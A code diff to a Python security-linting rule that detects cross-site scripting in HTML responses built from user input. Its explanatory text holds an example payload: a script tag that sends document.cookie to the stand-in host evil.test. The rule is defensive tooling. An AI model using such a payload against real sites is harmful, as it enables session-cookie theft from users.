@@ -6,7 +6,8 @@ import ast
 
 from tabguard.engine.rule import Invalid, Rule
 from tabguard.engine.types import Related
-from tabguard.rules.injection._html import HTML_ALWAYS, TYPE_KEYWORDS, is_html_response, proxy_html_body, returns_html
+from tabguard.rules.injection import last_names
+from tabguard.rules.injection._html import HTML_ALWAYS, HTML_RESPONSES, TYPE_KEYWORDS, is_html_response, proxy_html_body, returns_html
 from tabguard.rules.injection._strings import built_string, is_string_building, raised
 
 
@@ -33,6 +34,7 @@ class HtmlResponseXss(Rule):
     message = "HTML response built from user input ({source}) without escaping"
     placeholders = {"source": "request data"}
     aliases = ()
+    call_names = last_names(HTML_RESPONSES | _FLASK_RENDER)
     what = "The response body is HTML and includes {source} as written, bypassing template auto-escaping."
     why = (
         "A link such as `/hello?name=<script>fetch('//evil.test?c='+document.cookie)</script>` makes the "
